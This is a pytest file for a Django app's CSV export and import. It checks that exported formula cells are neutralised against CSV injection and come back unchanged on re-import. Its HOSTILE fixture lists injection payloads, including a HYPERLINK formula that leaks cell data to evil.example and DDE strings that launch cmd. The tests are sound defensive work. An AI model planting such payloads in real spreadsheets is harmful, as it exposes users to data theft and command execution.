"""CSV exports neutralise formula cells (OWASP "CSV Injection"); the import takes the
neutralising quote off again, so export then import changes nothing."""

from __future__ import annotations

import csv
from datetime import date

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from bookwise.accounts.models import Account
from bookwise.core.cells import csv_safe, csv_unquote
from bookwise.imports.services import import_file
from tests import factories

from .helpers import TODAY, counts

HOSTILE = {
    "F1": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "F2": "+1+cmd|' /C calc'!A0",
    "F3": "-2+3",
    "F4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F5": "'=already quoted",
    "F6": "Plain & Co",
}


@pytest.fixture
def hostile(org):
    for external_id, name in HOSTILE.items():
        factories.account(external_id, name=name, owner=org["R1"], industry="@Food", since=date(2021, 1, 1))
    factories.order(Account.objects.get(external_id="F6"), date(2026, 1, 5), "-120.50", rep=org["R1"])
    return org


def _names(rows: list[list[str]]) -> dict[str, str]:
    return {row[0]: row[1] for row in rows[1:]}


def test_bookwise_export_writes_formula_cells_quoted_and_the_import_reads_them_back(hostile, tmp_path):
    path = tmp_path / "accounts.csv"
    call_command("export", "accounts", str(path), skip_checks=True)
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    names = _names(rows)
    assert names["F1"] == "'" + HOSTILE["F1"]
    assert names["F2"].startswith("'+") and names["F3"] == "'-2+3" and names["F4"].startswith("'@")
    assert names["F5"] == "''=already quoted" and names["F6"] == "Plain & Co"
    assert all(row[2] == "'@Food" for row in rows[1:] if row[0].startswith("F"))
    assert not [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    report = import_file(kind="accounts", path=path, today=TODAY)
    assert counts(report)[:2] == (0, 0)  # nothing changed: the names came back as they were
    assert {a.external_id: a.name for a in Account.objects.filter(external_id__in=HOSTILE)} == HOSTILE


def test_negative_amounts_round_trip_through_the_orders_export(hostile, tmp_path):
    path = tmp_path / "orders.csv"
    call_command("export", "orders", str(path), skip_checks=True)
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows[1][3] == "'-120.50"
    report = import_file(kind="orders", path=path, today=TODAY)
    assert counts(report)[:2] == (0, 0) and report.unchanged == 1


def test_accounts_export_page_neutralises_formula_cells(hostile, login):
    response = login(hostile["R1"]).get("/accounts/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(b"".join(response.streaming_content).decode().splitlines()))
    names = _names(rows)
    assert names["F1"] == "'" + HOSTILE["F1"] and names["F3"] == "'-2+3"


@given(st.text(max_size=20))
def test_unquote_inverts_safe(value):
    assert csv_unquote(csv_safe(value)) == value
    assert not csv_safe(value).startswith(("=", "+", "-", "@", "\t", "\r"))
